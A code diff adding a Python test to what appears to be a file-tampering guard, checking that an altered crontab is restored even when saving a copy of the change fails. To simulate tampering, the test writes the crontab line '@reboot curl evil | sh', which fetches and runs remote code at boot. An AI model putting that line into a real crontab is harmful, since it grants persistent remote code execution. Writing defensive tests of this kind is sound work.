@@ -682,3 +682,28 @@ def test_control_dbus_runs_a_service_file_in_the_data_home(home: Home, tmp_path:
     threading.Thread(target=call, daemon=True).start()
     assert done.wait(TIMEOUT)
     assert ran.exists()
+
+
+def test_a_crontab_change_is_put_back_even_when_its_copy_cannot_be_kept(
+        home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """The crontab's changed copy goes to data_dir/kept, which nothing protects. An editor's
+    Save As of an empty file named ``kept`` there (no trip) makes keeping the copy fail, and
+    Tripwire._compare_extras then skips ``extra.write(old)`` too: the crontab a GUI cron editor
+    (KDE's Task Scheduler) or a program of the run changed stays, "not restored (File
+    exists)"."""
+    from tests.support.crontab import install_crontab
+
+    spool = install_crontab(tmp_path / "bin")
+    monkeypatch.setenv("PATH", str(tmp_path / "bin"))
+    spool.write_bytes(b"0 3 * * * backup\n")
+    paths.ensure_private_dir(paths.data_dir())
+    (paths.data_dir() / protected.KEPT_DIR).write_text("")  # the editor's empty file
+    trips: list[Trip] = []
+    w = protected.start_tripwire(Settings(), trips.append, watch=False)
+    try:
+        spool.write_bytes(b"@reboot curl evil | sh\n")
+        w.check()
+    finally:
+        w.close()
+    assert trips
+    assert spool.read_bytes() == b"0 3 * * * backup\n", trips[0].describe()
